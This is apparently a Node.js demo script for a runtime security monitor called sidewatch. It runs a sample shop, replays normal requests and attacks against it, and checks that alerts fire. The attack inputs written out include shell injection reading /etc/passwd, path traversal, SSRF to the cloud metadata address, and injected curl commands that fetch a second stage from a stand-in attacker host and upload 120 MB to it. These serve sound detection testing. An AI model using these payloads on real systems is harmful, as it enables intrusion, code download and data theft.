#!/usr/bin/env node
// The demo: a real agent with the embedded sqlite store, the example shop with the SDK preloaded,
// scripted traffic, then what sidewatch saw. Everything runs on loopback and a unix socket in
// ./.sidewatch-demo, which is kept afterwards so the stored events can be searched.
import { spawn, execFileSync } from 'node:child_process'
import { mkdirSync, rmSync } from 'node:fs'
import { createInterface } from 'node:readline'
import { fileURLToPath } from 'node:url'
import { join } from 'node:path'
import { LOCAL_ADDR, networkUnavailable, REMOTE_ADDR, REMOTE_PORT, startAttackerNetwork } from './demo-network.mjs'

const root = fileURLToPath(new URL('..', import.meta.url))
const dir = join(root, '.sidewatch-demo')
const agentBin = join(root, 'packages', 'agent', 'bin', 'sidewatch-agent.js')
const db = join(dir, 'sidewatch.db')
const sock = join(dir, 'agent.sock')
const token = 'demo-' + Math.random().toString(36).slice(2)

const step = (text) => console.log(`\x1b[1m▸ ${text}\x1b[0m`)
const fail = (text) => { console.error(`demo: ${text}`); process.exit(1) }

/** Starts a process and resolves with it once a JSON line on `stream` satisfies `ready`. */
function startUntil (args, env, stream, ready, what) {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, args, { cwd: root, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] })
    const lines = []
    const timer = setTimeout(() => reject(new Error(`${what} did not start: ${lines.slice(-5).join(' | ')}`)), 15000)
    createInterface({ input: child[stream] }).on('line', (line) => {
      lines.push(line)
      let parsed
      try { parsed = JSON.parse(line) } catch { return }
      if (ready(parsed)) { clearTimeout(timer); resolve({ child, line: parsed }) }
    })
    child.once('exit', (code) => { clearTimeout(timer); reject(new Error(`${what} exited with ${code}: ${lines.slice(-5).join(' | ')}`)) })
  })
}

rmSync(dir, { recursive: true, force: true })
mkdirSync(dir, { recursive: true })

// The attacker's server "on the internet": a network namespace at 203.0.113.2 behind a veth the agent
// captures like a task's ENI (scripts/demo-network.mjs). Without root the network steps are skipped.
const noNetwork = networkUnavailable()
let network
if (noNetwork === undefined) {
  step(`making the attacker's network: a namespace at ${REMOTE_ADDR} behind the veth swdemo0 (${LOCAL_ADDR}), which the agent captures`)
  network = await startAttackerNetwork().catch((err) => fail(`cannot make the demo's network namespace: ${err.message}`))
} else {
  step(`skipping the network part of the story: ${noNetwork}`)
}

step(`starting sidewatch-agent (embedded store: .sidewatch-demo/sidewatch.db${network ? ', capturing swdemo0' : ''})`)
const agent = await startUntil([agentBin, 'run', '--listen', `unix:${sock}`, '--token', token, '--sink', `sqlite:${db}`,
  '--capture', network?.iface ?? 'off', '--flow-idle-timeout', '5', '--rules', join(root, 'examples', 'shop', 'demo-rules.yaml')],
  { SIDEWATCH_LOG_LEVEL: 'info' }, 'stderr', (l) => l.msg === 'ready', 'the agent')
  .catch((err) => fail(err.message))

// Both shops also preload examples/shop/loopback-only.js: a net guard that refuses any TCP connection
// to an address other than loopback, so no request of this demo can leave the machine.
const startShop = (mode, what) => startUntil(
  ['-r', '@sidewatch/node-asm/register', '-r', join(root, 'examples', 'shop', 'loopback-only.js'), join(root, 'examples', 'shop', 'server.js')],
  { PORT: '0', SIDEWATCH_AGENT: `unix:${sock}`, SIDEWATCH_TOKEN: token, SIDEWATCH_SERVICE: 'shop', SIDEWATCH_MODE: mode },
  'stdout', (l) => l.msg === 'shop listening', what)
  .catch((err) => fail(err.message))

step('starting the example shop with the SDK (monitor mode): node -r @sidewatch/node-asm/register examples/shop/server.js')
const shop = await startShop('monitor', 'the shop')
const base = `http://127.0.0.1:${shop.line.port}`
step('starting a second shop in block mode (SIDEWATCH_MODE=block), for the attack that must not get through')
const guarded = await startShop('block', 'the block-mode shop')
const guardedBase = `http://127.0.0.1:${guarded.line.port}`

const traffic = [
  '/health', '/files', '/date', '/count', '/whoami', '/hostname', '/sum?n=1,2,3', '/greet?name=alice',
  '/file?name=catalog.txt',
  // Attacks: request input that changes a shell command, climbs out of the public folder, and
  // points the server's own outbound request at loopback. Monitor mode reports, and lets them run.
  '/greet?name=' + encodeURIComponent('bob; cat /etc/passwd'),
  '/file?name=' + encodeURIComponent('../../../../../../../../etc/hostname'),
  '/preview?url=' + encodeURIComponent(`http://127.0.0.1:${shop.line.port}/health`),
]
const play = async (url, path, label) => {
  const res = await fetch(url + path)
  const body = await res.text()
  console.log(`  ${label.padEnd(8)} ${res.status} GET ${path.padEnd(36)} ${body.length > 60 ? body.slice(0, 57) + '...' : body}`)
  return res.status
}
step(`playing ${traffic.length} requests (9 normal, then 3 attacks the monitor-mode shop reports and lets run)`)
for (const [i, path] of traffic.entries()) await play(base, path, i < 9 ? 'normal' : 'attack')

// SSRF aimed at the cloud metadata address. On AWS 169.254.169.254 is the real instance metadata
// service, so this request goes to the block-mode shop: the SDK judges the outbound call and refuses
// it before any socket is opened (and loopback-only.js would refuse it too). First check on
// loopback that the shop does block, and only then name the metadata address.
step('SSRF to the metadata address, against the block-mode shop (the SDK stops it before any connection)')
const probe = await play(guardedBase, '/preview?url=' + encodeURIComponent(`http://127.0.0.1:${guarded.line.port}/health`), 'attack')
if (probe !== 403) fail(`the block-mode shop answered ${probe} to an SSRF on loopback, not 403: not sending the metadata request`)
const metadata = await play(guardedBase, '/preview?url=' + encodeURIComponent('http://169.254.169.254/latest/meta-data/'), 'attack')
if (metadata !== 403) fail(`the block-mode shop answered ${metadata} to the metadata SSRF, not 403`)

// An interactive shell: `script` gives a shell a pseudo-terminal, the way `docker exec -it` or ECS
// Exec does; the agent's process scanner sees a shell with a controlling terminal.
step('an interactive shell: script -qec "sleep 2; true" /dev/null (sh on a pseudo-terminal)')
const shell = spawn('script', ['-qec', 'sleep 2; true', '/dev/null'], { env: { ...process.env, SHELL: '/bin/sh' }, stdio: 'ignore' })
const shellCode = await new Promise((resolve) => { shell.once('exit', resolve); shell.once('error', (err) => resolve(err.message)) })
console.log(`  shell    exited ${shellCode}`)

if (network !== undefined) {
  // The attacker goes on through the same injectable /greet: a second stage fetched from their
  // server, then 120 MB of data sent to it. The SDK reports each injection; the agent's capture
  // sees the connections the shell's curl makes, and the rules judge them.
  const remote = `http://${REMOTE_ADDR}:${REMOTE_PORT}`
  step(`an unexpected outbound connection: through the injection, curl fetches a second stage from ${remote}`)
  await play(base, '/greet?name=' + encodeURIComponent(`x; curl -s ${remote}/stage2`), 'attack')
  step(`a large upload: through the injection, 120 MB streamed to ${remote}/upload`)
  await play(base, '/greet?name=' + encodeURIComponent(`x; head -c 120000000 /dev/zero | curl -s -T - ${remote}/upload`), 'attack')
}

step('stopping the shop and the agent (the SDK flushes on exit, the agent on SIGTERM)')
const exited = (child) => new Promise((resolve) => child.once('exit', (code) => resolve(code)))
for (const s of [shop, guarded]) {
  s.child.kill('SIGTERM')
  await exited(s.child)
}
agent.child.kill('SIGTERM')
const agentCode = await exited(agent.child)
if (agentCode !== 0) fail(`the agent exited with ${agentCode}`)
network?.stop()

const cli = (...args) => execFileSync(process.execPath, [agentBin, ...args], { encoding: 'utf8' })
const all = cli('events', '--db', db, '--json', '--limit', '100000').split('\n').filter(Boolean).map((l) => JSON.parse(l))
const byId = new Map(all.map((e) => [e.id, e]))
const alerts = cli('events', '--db', db, '--json', '--kind', 'alert').split('\n').filter(Boolean).map((l) => JSON.parse(l))

/** A short text for what an alert is about, from the events it names as evidence. */
function evidence (alert) {
  for (const id of alert.alert.evidence ?? []) {
    const ev = byId.get(id)
    if (ev?.kind === 'attack') {
      const a = ev.attack
      return `${a.blocked ? 'BLOCKED' : 'ran'}: ${a.input.name}=${JSON.stringify(a.input.value)} → ${a.sink}${a.target && a.target !== a.input.value ? ' ' + a.target : ''}`
    }
    if (ev?.kind === 'process.start' || ev?.kind === 'process.exec') {
      const p = ev.process ?? {}
      const cmdline = Array.isArray(p.cmdline) ? p.cmdline.join(' ') : p.cmdline
      return `${p.tty ? p.tty + ': ' : ''}${cmdline ?? p.exe ?? ev.summary ?? ''}`
    }
    if (ev?.kind === 'net.flow' && ev.flow) {
      const f = ev.flow
      return `${f.process?.exe ?? 'pid ' + (f.process?.pid ?? '?')}: ${f.src}:${f.sport} → ${f.dst}:${f.dport}/${f.proto}, ${megabytes(f.src_bytes)} out, ${megabytes(f.dst_bytes)} in`
    }
  }
  const proc = alert.alert.context?.process
  return (Array.isArray(proc?.cmdline) ? proc.cmdline.join(' ') : proc?.cmdline) ?? alert.alert.output
}
function megabytes (n) { return n >= 1e6 ? `${(n / 1e6).toFixed(1)} MB` : `${n ?? 0} B` }
const clip = (text, n) => { const t = String(text).replace(/\s+/g, ' '); return t.length > n ? t.slice(0, n - 1) + '…' : t }
const rows = alerts.map((a) => [a.ts.slice(11, 23), a.alert.priority, a.alert.rule, a.container ?? (a.service ? `service ${a.service}` : '-'), clip(evidence(a), 90)])
const header = ['TIME (UTC)', 'PRIORITY', 'RULE', 'CONTAINER', 'EVIDENCE']
const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => r[i].length)))
step(`what sidewatch alerted on (the shipped rules): ${alerts.length} alerts`)
console.log('  ' + header.map((h, i) => h.padEnd(widths[i])).join('  '))
for (const r of rows) console.log('  ' + r.map((c, i) => c.padEnd(widths[i])).join('  ').trimEnd())
console.log('  (alerts with no container and no service come from the machine the demo runs on, which the agent also scans)')
console.log('')
step('what sidewatch saw')
process.stdout.write(cli('events', '--db', db, '--kind', 'attack'))
console.log('')
process.stdout.write(cli('events', '--db', db, '--kind', 'process.exec'))
const byKind = {}
for (const ev of all) byKind[ev.kind] = (byKind[ev.kind] ?? 0) + 1
console.log('')
console.log(`  ${all.length} events stored: ${Object.entries(byKind).map(([k, n]) => `${n} ${k}`).join(', ')}`)
console.log('')
console.log('  Search the stored events, for example:')
console.log(`    node packages/agent/bin/sidewatch-agent.js search passwd --db .sidewatch-demo/sidewatch.db`)
console.log('  or triage the alerts in the browser console (it prints a sign-in link; docs/console.md):')
console.log(`    node packages/agent/bin/sidewatch-agent.js console --db .sidewatch-demo/sidewatch.db`)
if (all.filter((e) => e.kind === 'process.exec').length < 8) fail('fewer process.exec events than expected')
if (all.filter((e) => e.kind === 'attack').length < 5) fail('the five attacks (three run, two blocked) were not all reported')
if (!['Shell injection', 'Path traversal', 'Server-side request forgery', 'Terminal shell in container'].every((rule) => alerts.some((e) => e.alert.rule === rule))) fail('the attacks did not all raise their alerts')
if (!all.some((e) => e.kind === 'attack' && e.attack.class === 'ssrf' && e.attack.blocked === true && String(e.attack.target).includes('169.254.169.254'))) fail('the metadata SSRF was not reported as blocked')
if (!alerts.some((e) => e.alert.rule === 'Server-side request forgery' && e.alert.output.includes('169.254.169.254'))) fail('the metadata SSRF raised no alert')
if (network !== undefined) {
  for (const rule of ['Unexpected outbound destination', 'Remote copy tool connecting out', 'Large outbound transfer to a new destination']) {
    if (!alerts.some((e) => e.alert.rule === rule && e.alert.output.includes(REMOTE_ADDR))) fail(`the outbound traffic to ${REMOTE_ADDR} raised no "${rule}" alert`)
  }
}
